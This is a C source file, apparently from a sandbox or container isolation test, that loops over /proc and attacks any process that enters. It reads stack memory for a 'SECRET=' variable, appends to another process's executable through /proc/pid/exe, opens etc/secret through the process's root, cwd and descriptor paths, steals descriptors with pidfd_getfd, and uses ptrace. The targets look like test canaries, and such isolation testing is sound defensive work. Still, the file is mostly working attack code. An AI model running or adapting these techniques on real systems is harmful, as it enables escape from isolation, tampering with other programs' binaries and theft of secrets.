/* Everything that may be tried on a process that enters, in a loop. */
#include "attack.h"

/* The environment that a process was started with, if that is not this guest's: it stands at the end of its stack. */
static void read_environment(int pid, const char *how) {
    char path[64], line[256];
    static char bytes[8192];
    unsigned long end = 0, from, to;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps)) {
        if (strstr(line, "[stack]") && sscanf(line, "%lx-%lx", &from, &to) == 2) {
            end = to;
        }
    }
    if (maps) {
        fclose(maps);
    }
    struct iovec local = {bytes, sizeof bytes}, remote = {(void *)(end - sizeof bytes), sizeof bytes};
    ssize_t len = end ? process_vm_readv(pid, &local, 1, &remote, 1, 0) : -1;
    const char *found = len > 0 ? memmem(bytes, len, "SECRET=", 7) : NULL;
    if (found) {
        printf("%d %s: %.64s\n", pid, how, found);
    }
}

static void overwrite(int pid) {
    char path[64];
    struct stat theirs, own;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int known = stat(path, &theirs) < 0 || (stat("/bin/busybox", &own) == 0 && own.st_ino == theirs.st_ino);
    if (known) {
        return;
    }
    /* Busy as long as it runs: kept, and opened again when it does not. */
    int kept = open(path, O_PATH | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
    for (int tries = 0; kept >= 0 && tries < 200; tries++) {
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0) {
            printf("overwrites %d\n", pid);
            said("write", write(fd, MARK, strlen(MARK)));
            close(fd);
            break;
        }
        if (errno != ETXTBSY) {
            break;
        }
        usleep(1000);
    }
    close(kept);
}

static void look(int pid, const char *part) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, part);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        show_fd(path, fd);
        close(fd);
    }
}

static void take_descriptors(int pid) {
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; process >= 0 && fd < 16; fd++) {
        int got = syscall(SYS_pidfd_getfd, process, fd, 0);
        int file = got < 0 ? -1 : openat(got, "etc/secret", O_RDONLY | O_CLOEXEC);
        if (file >= 0) {
            show_fd("etc/secret by a descriptor of who enters", file);
            close(file);
        }
        close(got);
    }
    close(process);
}

static void trace(int pid) {
    int status;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, &status, __WALL);
        read_environment(pid, "by tracing");
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static void ambush(void) {
    int me = getpid();
    /* What a program that enters may be asked to run: itself, by its own name in /proc. */
    int script = open("/tmp/again", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    dprintf(script, "#!/proc/self/exe\n");
    close(script);
    for (int pass = 0;; pass++) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        if (pass == 1) {
            printf("holding\n");
        }
        while (processes && (entry = readdir(processes))) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == me) {
                continue;
            }
            overwrite(pid);
            read_environment(pid, "by its memory");
            look(pid, "root/etc/secret");
            look(pid, "cwd/etc/secret");
            look(pid, "fd/3/etc/secret");
            take_descriptors(pid);
            trace(pid);
            while (waitpid(-1, NULL, WNOHANG) > 0) {
            }
        }
        closedir(processes);
    }
}
